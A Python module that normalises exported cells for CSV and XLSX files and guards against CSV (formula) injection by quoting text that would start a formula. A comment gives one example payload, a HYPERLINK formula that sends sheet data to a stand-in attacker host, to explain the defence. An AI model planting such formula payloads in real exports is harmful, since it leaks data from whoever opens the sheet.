"""Export columns and cells without Django: what a column gives, normalised for every spreadsheet format, and
its French CSV text. `pilote.core.listing` (the list pages' exports) gives the same names; the trial balance
command's direct path (`pilote.ledger.direct`, no `django.setup()`) imports them from here.
"""

from __future__ import annotations

import datetime as dt
import math
import re
from collections.abc import Callable
from decimal import Decimal
from typing import NamedTuple

from pilote.lib.formats import decimal_comma


class Column(NamedTuple):  # not a dataclass: `dataclasses` (and `inspect`) cost the direct trial balance ~20 ms
    label: str
    value: Callable[[object], object]


# --- One normalisation for every exported cell ------------------------------------------------------------
# A spreadsheet evaluates a text cell that starts with = + - @ (also after spaces), a tab or a carriage
# return (OWASP « CSV injection »): a contact named =HYPERLINK("http://evil.example/?d="&A2) would send the
# sheet's data away when opened. Every text cell of a spreadsheet export goes through `inert_text`, which
# prefixes such a text with a single quote. Real numbers, dates and booleans are typed values, never
# quoted: a negative amount stays a number.
FORMULA_STARTS = ("=", "+", "-", "@")
CONTROL_STARTS = ("\t", "\r")
# Text that is only a number (« -12,50 », « -1 234 ») is what it shows: a spreadsheet reads a number.
NUMBER_TEXT = re.compile(r"[+-]?\d{1,3}(?:[ \u00a0\u202f]\d{3})+(?:[.,]\d+)?|[+-]?\d+(?:[.,]\d+)?")
# Characters an XML file (an XLSX) cannot hold; openpyxl refuses them with an exception.
ILLEGAL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def inert_text(text: str) -> str:
    """`text` as a spreadsheet shows it and never evaluates it: quoted when it would start a formula."""
    stripped = text.lstrip()
    if text.startswith(CONTROL_STARTS) or (stripped.startswith(FORMULA_STARTS) and not NUMBER_TEXT.fullmatch(stripped)):
        return "'" + text
    return text


def _as_text(value) -> str:
    if isinstance(value, dict):
        return " ; ".join(f"{key} : {_as_text(item)}" for key, item in value.items())
    if isinstance(value, list | tuple | set | frozenset):
        return ", ".join(_as_text(item) for item in value)
    if value is None:
        return ""
    return ILLEGAL_CHARACTERS.sub("", str(value))


def typed_cell(value):
    """What a column gives, as one of the few kinds every format writes: None, a number (int, finite
    Decimal or float), a date, a local naive datetime, or text (bool as oui/non; anything else — a dict,
    a list, a lazy string, an enum — as its text, so no format meets a type it cannot write)."""
    if value is None:
        return None
    if isinstance(value, bool):
        return "oui" if value else "non"
    if isinstance(value, int):
        return value
    if isinstance(value, Decimal):
        return value if value.is_finite() else None
    if isinstance(value, float):
        return value if math.isfinite(value) else None
    if isinstance(value, dt.datetime):
        from django.utils import timezone  # an aware datetime needs the settings' zone; nothing else here does

        return (timezone.localtime(value) if timezone.is_aware(value) else value).replace(tzinfo=None)
    if isinstance(value, dt.date):
        return value
    return _as_text(value)


def spreadsheet_cell(value):
    """`typed_cell`, with text made inert: the cell every spreadsheet export (CSV, XLSX, a future one,
    the trial balance command) writes."""
    value = typed_cell(value)
    return inert_text(value) if isinstance(value, str) else value


def csv_text(value) -> str:
    """A spreadsheet cell as CSV text, in French forms: 1234,56 ; 24/11/2026 ; 24/11/2026 14:05."""
    value = spreadsheet_cell(value)
    if value is None:
        return ""
    if isinstance(value, Decimal):
        return decimal_comma(value)
    if isinstance(value, float):
        return str(value).replace(".", ",")
    if isinstance(value, dt.datetime):
        return value.strftime("%d/%m/%Y %H:%M")
    if isinstance(value, dt.date):
        return value.strftime("%d/%m/%Y")
    return str(value)
